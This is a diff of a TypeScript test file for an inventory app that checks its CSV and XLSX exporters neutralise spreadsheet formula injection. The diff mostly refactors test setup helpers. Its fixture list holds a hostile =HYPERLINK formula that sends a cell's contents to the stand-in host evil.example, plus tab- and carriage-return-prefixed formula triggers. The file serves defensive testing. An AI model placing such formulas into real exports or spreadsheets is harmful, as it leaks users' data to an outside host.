@@ -5,9 +5,9 @@ import { exportCsv } from '../../src/imports/exports';
 import { onePage, reportBuffer } from '../../src/reports/report-writers';
 import { purchaseOrderCsv } from '../../src/replenishment/po-export';
 import type { PurchaseOrderDto } from '../../src/replenishment/purchase-orders.schema';
-import { describeEachBackend, useStockwise } from '../support/backends';
-import { newAccount, uid, type TestAccount } from '../support/factories';
-import { client } from '../support/http-client';
+import { describeEachBackend } from '../support/backends';
+import { uid } from '../support/factories';
+import { useOwnerApi } from '../support/owner-api';
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
@@ -23,20 +23,17 @@ const REPORT_TEXT = [...HOSTILE, '\t=1+1', '\r=1+1'];
 const parseCsv = (text: string): string[][] => parse(text, { relax_column_count: true }) as string[][];
 
 describeEachBackend('Spreadsheet-safe text in every CSV and XLSX writer', (backend) => {
-  const ctx = useStockwise(backend);
-  let owner: TestAccount;
+  const t = useOwnerApi(backend);
   const skus = HOSTILE.map(() => uid('FX-'));
 
   beforeAll(async () => {
-    owner = await newAccount(ctx.sw);
-    const api = client(ctx.app, owner.token);
     for (const [i, title] of HOSTILE.entries())
-      expect((await api.post('/api/v1/products', { sku: skus[i], title })).status).toBe(201);
+      expect((await t.api.post('/api/v1/products', { sku: skus[i], title })).status).toBe(201);
   });
 
   it('`stockwise export products` neutralises every formula trigger (and keeps the text)', async () => {
     let csv = '';
-    for await (const chunk of exportCsv(ctx.sw.tx, owner.actor, 'products')) csv += chunk;
+    for await (const chunk of exportCsv(t.sw.tx, t.owner.actor, 'products')) csv += chunk;
     const rows = parseCsv(csv);
     const titleAt = rows[0]!.indexOf('title');
     for (const [i, title] of HOSTILE.entries()) {
